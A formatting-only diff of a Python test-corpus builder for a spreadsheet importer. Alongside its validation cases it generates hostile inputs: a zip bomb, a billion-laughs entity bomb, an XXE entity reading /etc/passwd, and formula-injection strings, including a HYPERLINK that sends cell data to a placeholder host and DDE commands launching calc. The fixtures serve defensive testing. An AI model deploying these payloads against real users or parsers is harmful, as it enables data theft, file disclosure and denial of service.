@@ -42,6 +42,7 @@ class Case:
 
 # --- validation errors of SPEC §2 --------------------------------------------------------------
 
+
 def _mutated(change: Callable[[Sheets], None]) -> bytes:
     sheets = copy.deepcopy(minimal_sheets())
     change(sheets)
@@ -51,6 +52,7 @@ def _mutated(change: Callable[[Sheets], None]) -> bytes:
 def _set(sheet: str, index: int, column: str, value: object) -> Callable[[Sheets], None]:
     def change(sheets: Sheets) -> None:
         sheets[sheet][index][column] = value
+
     return change
 
 
@@ -58,12 +60,14 @@ def _drop_column(sheet: str, column: str) -> Callable[[Sheets], None]:
     def change(sheets: Sheets) -> None:
         for row in sheets[sheet]:
             row.pop(column, None)
+
     return change
 
 
 def _drop_sheet(sheet: str) -> Callable[[Sheets], None]:
     def change(sheets: Sheets) -> None:
         del sheets[sheet]
+
     return change
 
 
@@ -78,39 +82,103 @@ def _empty_perimeter(sheets: Sheets) -> None:
 
 # (name, change, expected code, (sheet, row, column)); rows are spreadsheet rows, header = 1.
 VALIDATION_CASES = [
-    ("identifiant-acteur-en-double", _set("acteurs", 1, "id", "A_CC"), "duplicate_id",
-     ("acteurs", 3, "id")),
-    ("identifiant-perimetre-en-double", _set("perimetres", 1, "id", "P_EPCI"), "duplicate_id",
-     ("perimetres", 3, "id")),
-    ("perimetre-de-dispositif-inconnu", _set("dispositifs", 0, "perimetre", "P_NULLE_PART"),
-     "dangling_reference", ("dispositifs", 2, "perimetre")),
-    ("acteur-de-participation-inconnu", _set("participations", 2, "acteur", "A_FANTOME"),
-     "dangling_reference", ("participations", 4, "acteur")),
-    ("pilote-inconnu", _set("dispositifs", 1, "pilote", "A_FANTOME"), "dangling_reference",
-     ("dispositifs", 3, "pilote")),
-    ("ressort-inconnu", _set("acteurs", 2, "ressort", "P_FANTOME"), "dangling_reference",
-     ("acteurs", 4, "ressort")),
-    ("categorie-inconnue", _set("acteurs", 0, "categorie", "mairie"), "unknown_code",
-     ("acteurs", 2, "categorie")),
-    ("role-inconnu", _set("participations", 0, "role", "chef"), "unknown_code",
-     ("participations", 2, "role")),
-    ("commune-inconnue", _set("acteurs", 3, "commune", "99999"), "unknown_commune",
-     ("acteurs", 5, "commune")),
-    ("epci-inconnu", _set("perimetres", 0, "communes", "epci:999999999"), "unknown_epci",
-     ("perimetres", 2, "communes")),
-    ("dates-inversees", _set("dispositifs", 0, "fin", "01/01/2020"), "reversed_dates",
-     ("dispositifs", 2, "fin")),
+    (
+        "identifiant-acteur-en-double",
+        _set("acteurs", 1, "id", "A_CC"),
+        "duplicate_id",
+        ("acteurs", 3, "id"),
+    ),
+    (
+        "identifiant-perimetre-en-double",
+        _set("perimetres", 1, "id", "P_EPCI"),
+        "duplicate_id",
+        ("perimetres", 3, "id"),
+    ),
+    (
+        "perimetre-de-dispositif-inconnu",
+        _set("dispositifs", 0, "perimetre", "P_NULLE_PART"),
+        "dangling_reference",
+        ("dispositifs", 2, "perimetre"),
+    ),
+    (
+        "acteur-de-participation-inconnu",
+        _set("participations", 2, "acteur", "A_FANTOME"),
+        "dangling_reference",
+        ("participations", 4, "acteur"),
+    ),
+    (
+        "pilote-inconnu",
+        _set("dispositifs", 1, "pilote", "A_FANTOME"),
+        "dangling_reference",
+        ("dispositifs", 3, "pilote"),
+    ),
+    (
+        "ressort-inconnu",
+        _set("acteurs", 2, "ressort", "P_FANTOME"),
+        "dangling_reference",
+        ("acteurs", 4, "ressort"),
+    ),
+    (
+        "categorie-inconnue",
+        _set("acteurs", 0, "categorie", "mairie"),
+        "unknown_code",
+        ("acteurs", 2, "categorie"),
+    ),
+    (
+        "role-inconnu",
+        _set("participations", 0, "role", "chef"),
+        "unknown_code",
+        ("participations", 2, "role"),
+    ),
+    (
+        "commune-inconnue",
+        _set("acteurs", 3, "commune", "99999"),
+        "unknown_commune",
+        ("acteurs", 5, "commune"),
+    ),
+    (
+        "epci-inconnu",
+        _set("perimetres", 0, "communes", "epci:999999999"),
+        "unknown_epci",
+        ("perimetres", 2, "communes"),
+    ),
+    (
+        "dates-inversees",
+        _set("dispositifs", 0, "fin", "01/01/2020"),
+        "reversed_dates",
+        ("dispositifs", 2, "fin"),
+    ),
     ("cycle-de-composition", _cycle, "composition_cycle", None),
-    ("cellule-obligatoire-vide", _set("acteurs", 1, "nom", None), "empty_required",
-     ("acteurs", 3, "nom")),
-    ("date-illisible", _set("dispositifs", 1, "debut", "32/13/2024"), "impossible_date",
-     ("dispositifs", 3, "debut")),
-    ("nombre-illisible", _set("acteurs", 0, "latitude", "nord"), "bad_number",
-     ("acteurs", 2, "latitude")),
-    ("annee-illisible", _set("dispositifs", 0, "annee_diagnostic", "deux mille"), "bad_year",
-     ("dispositifs", 2, "annee_diagnostic")),
-    ("latitude-hors-bornes", _set("acteurs", 0, "latitude", 123.0), "out_of_range",
-     ("acteurs", 2, "latitude")),
+    (
+        "cellule-obligatoire-vide",
+        _set("acteurs", 1, "nom", None),
+        "empty_required",
+        ("acteurs", 3, "nom"),
+    ),
+    (
+        "date-illisible",
+        _set("dispositifs", 1, "debut", "32/13/2024"),
+        "impossible_date",
+        ("dispositifs", 3, "debut"),
+    ),
+    (
+        "nombre-illisible",
+        _set("acteurs", 0, "latitude", "nord"),
+        "bad_number",
+        ("acteurs", 2, "latitude"),
+    ),
+    (
+        "annee-illisible",
+        _set("dispositifs", 0, "annee_diagnostic", "deux mille"),
+        "bad_year",
+        ("dispositifs", 2, "annee_diagnostic"),
+    ),
+    (
+        "latitude-hors-bornes",
+        _set("acteurs", 0, "latitude", 123.0),
+        "out_of_range",
+        ("acteurs", 2, "latitude"),
+    ),
     ("feuille-obligatoire-absente", _drop_sheet("dispositifs"), "missing_sheet", None),
     ("colonne-obligatoire-absente", _drop_column("acteurs", "champ"), "missing_column", None),
     ("perimetre-sans-commune", _empty_perimeter, "empty_perimeter", None),
@@ -127,29 +195,37 @@ CONTENT_TYPES = (
     '<Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-'
     'officedocument.spreadsheetml.sheet.main+xml"/><Override PartName="/xl/worksheets/'
     'sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.'
-    'worksheet+xml"/></Types>')
+    'worksheet+xml"/></Types>'
+)
 ROOT_RELS = (
     '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
     '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
     '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
-    'relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>')
+    'relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>'
+)
 WORKBOOK_RELS = (
     '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
     '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
     '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
-    'relationships/worksheet" Target="worksheets/sheet1.xml"/></Relationships>')
-SHEET_OPEN = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
-              '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
-              '<sheetData>')
+    'relationships/worksheet" Target="worksheets/sheet1.xml"/></Relationships>'
+)
+SHEET_OPEN = (
+    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
+    '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
+    "<sheetData>"
+)
 SHEET_CLOSE = "</sheetData></worksheet>"
 
 
 def _workbook_xml(sheet_name: str, prolog: str = "") -> str:
-    return ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>' + prolog +
-            '<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
-            'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
-            f'<sheets><sheet name="{escape(sheet_name, {chr(34): "&quot;"})}" sheetId="1" '
-            'r:id="rId1"/></sheets></workbook>')
+    return (
+        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
+        + prolog
+        + '<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
+        'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
+        f'<sheets><sheet name="{escape(sheet_name, {chr(34): "&quot;"})}" sheetId="1" '
+        'r:id="rId1"/></sheets></workbook>'
+    )
 
 
 def _cell(reference: str, text: str) -> str:
@@ -166,9 +242,14 @@ def _column_letters(index: int) -> str:
     return letters
 
 
-def _package(sheet_parts: Callable[[], object], *, sheet_name: str = "acteurs",
-             workbook_prolog: str = "", extra: dict[str, bytes] | None = None,
-             level: int = 6) -> bytes:
+def _package(
+    sheet_parts: Callable[[], object],
+    *,
+    sheet_name: str = "acteurs",
+    workbook_prolog: str = "",
+    extra: dict[str, bytes] | None = None,
+    level: int = 6,
+) -> bytes:
     """A one-sheet .xlsx whose sheet XML is streamed from `sheet_parts()` (str chunks)."""
     buffer = io.BytesIO()
     with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, compresslevel=level) as archive:
@@ -188,10 +269,10 @@ def _rows(rows: list[list[str]]):
     def parts():
         yield SHEET_OPEN
         for number, values in enumerate(rows, start=1):
-            cells = "".join(_cell(f"{_column_letters(i)}{number}", v) for i, v in
-                            enumerate(values))
+            cells = "".join(_cell(f"{_column_letters(i)}{number}", v) for i, v in enumerate(values))
             yield f'<row r="{number}">{cells}</row>'
         yield SHEET_CLOSE
+
     return parts
 
 
@@ -200,12 +281,14 @@ ACTOR_ROWS = [["id", "nom", "categorie", "champ"], ["A1", "Mairie", "collectivit
 
 def zip_bomb() -> bytes:
     """60 MB of blanks deflated to ~60 kB: a ratio of ~1,000."""
+
     def parts():
         yield SHEET_OPEN
         blank = " " * 1_000_000
         for _ in range(60):
             yield blank
         yield SHEET_CLOSE
+
     return _package(parts, level=9)
 
 
@@ -220,8 +303,7 @@ def _laughs(level: int) -> str:
     return f'<!ENTITY lol{level} "{f"&{previous};" * 10}">'
 
 
-BILLION_LAUGHS = ('<!DOCTYPE lolz [<!ENTITY lol "lol">' + "".join(map(_laughs, range(1, 10)))
-                  + "]>")
+BILLION_LAUGHS = '<!DOCTYPE lolz [<!ENTITY lol "lol">' + "".join(map(_laughs, range(1, 10))) + "]>"
 
 
 def entity_bomb() -> bytes:
@@ -230,16 +312,19 @@ def entity_bomb() -> bytes:
         yield '<row r="1">' + _cell("A1", "id") + '</row><row r="2"><c r="A2" t="inlineStr">'
         yield "<is><t>&lol9;</t></is></c></row>"
         yield SHEET_CLOSE
+
     return _package(parts)
 
 
 def external_entity() -> bytes:
     prolog = '<!DOCTYPE workbook [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
+
     def parts():
         yield SHEET_OPEN.replace("<worksheet", prolog + "<worksheet", 1)
         yield '<row r="1">' + _cell("A1", "id") + '</row><row r="2"><c r="A2" t="inlineStr">'
         yield "<is><t>&xxe;</t></is></c></row>"
         yield SHEET_CLOSE
+
     return _package(parts, workbook_prolog=prolog)
 
 
@@ -256,29 +341,37 @@ def encrypted() -> bytes:
 
 def sparse_million_rows() -> bytes:
     """Headers on row 1 and one cell on the last row Excel allows (1,048,576)."""
+
     def parts():
         yield SHEET_OPEN
-        yield '<row r="1">' + "".join(_cell(f"{_column_letters(i)}1", v)
-                                      for i, v in enumerate(ACTOR_ROWS[0])) + "</row>"
+        yield (
+            '<row r="1">'
+            + "".join(_cell(f"{_column_letters(i)}1", v) for i, v in enumerate(ACTOR_ROWS[0]))
+            + "</row>"
+        )
         yield '<row r="1048576">' + _cell("A1048576", "A_LOIN") + "</row>"
         yield SHEET_CLOSE
+
     return _package(parts)
 
 
 def million_empty_rows() -> bytes:
     """1,000,000 `<row>` elements each with one empty cell, deflated to ~2 MB."""
+
     def parts():
         yield SHEET_OPEN
         yield '<row r="1">' + _cell("A1", "id") + _cell("B1", "nom") + "</row>"
         batch = []
         for number in range(2, 1_000_002):
-            batch.append(f'<row r="{number}"><c r="A{number}" t="inlineStr"><is><t></t></is>'
-                         "</c></row>")
+            batch.append(
+                f'<row r="{number}"><c r="A{number}" t="inlineStr"><is><t></t></is></c></row>'
+            )
             if len(batch) == 50_000:
                 yield "".join(batch)
                 batch = []
         yield "".join(batch)
         yield SHEET_CLOSE
+
     return _package(parts, level=9)
 
 
@@ -290,7 +383,7 @@ def all_columns() -> bytes:
 
 def quoted_sheet_name() -> bytes:
     sheets = copy.deepcopy(minimal_sheets())
-    sheets["L’équipe \"projet\" d'acteurs"] = sheets.pop("acteurs")
+    sheets['L’équipe "projet" d\'acteurs'] = sheets.pop("acteurs")
     return xlsx_bytes(sheets)
 
 
@@ -308,8 +401,14 @@ def formulas() -> bytes:
     return buffer.getvalue()
 
 
-INJECTIONS = ['=HYPERLINK("http://exemple.invalid/?d="&A1,"Cliquez")', "+cmd|' /C calc'!A0",
-              "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0", "=1+1", "\t=1+1"]
+INJECTIONS = [
+    '=HYPERLINK("http://exemple.invalid/?d="&A1,"Cliquez")',
+    "+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "=1+1",
+    "\t=1+1",
+]
 
 
 def formula_injection() -> bytes:
@@ -329,8 +428,9 @@ def _text_xlsx(sheets: Sheets) -> bytes:
     """Like tests/workbooks.xlsx_bytes, but `=…` strings stay text cells (openpyxl would write
     them as formulas): this is what a tableur saves when a user types '=HYPERLINK(…)."""
     buffer = io.BytesIO()
-    with xlsxwriter.Workbook(buffer, {"strings_to_formulas": False,
-                                      "strings_to_numbers": False}) as workbook:
+    with xlsxwriter.Workbook(
+        buffer, {"strings_to_formulas": False, "strings_to_numbers": False}
+    ) as workbook:
         for name, rows in sheets.items():
             sheet = workbook.add_worksheet(name)
             headers = list(dict.fromkeys(key for row in rows for key in row))
@@ -416,8 +516,15 @@ def build_corpus(folder: Path) -> list[Case]:
         cases.append(Case(name, (file_name,), expect, codes))
     place = folder / "csv-references-cassees"
     place.mkdir()
-    cases.append(Case(place.name, csv_files(place), "invalid", ("dangling_reference",),
-                      ("participations", 2, "dispositif")))
+    cases.append(
+        Case(
+            place.name,
+            csv_files(place),
+            "invalid",
+            ("dangling_reference",),
+            ("participations", 2, "dispositif"),
+        )
+    )
     return cases
 
 
